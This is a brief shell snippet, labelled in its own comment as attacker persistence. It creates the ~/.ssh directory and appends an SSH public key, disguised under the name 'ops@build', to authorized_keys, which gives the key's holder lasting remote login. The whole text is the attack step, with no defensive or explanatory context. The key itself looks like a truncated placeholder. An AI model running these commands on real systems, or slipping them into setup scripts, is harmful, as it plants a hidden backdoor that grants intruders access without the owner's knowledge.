# persistence: an attacker key is added to authorized_keys
mkdir -p ~/.ssh && chmod 700 ~/.ssh
echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFz0hYg1bT0q7 ops@build" >> ~/.ssh/authorized_keys
chmod 600 ~/.ssh/authorized_keys
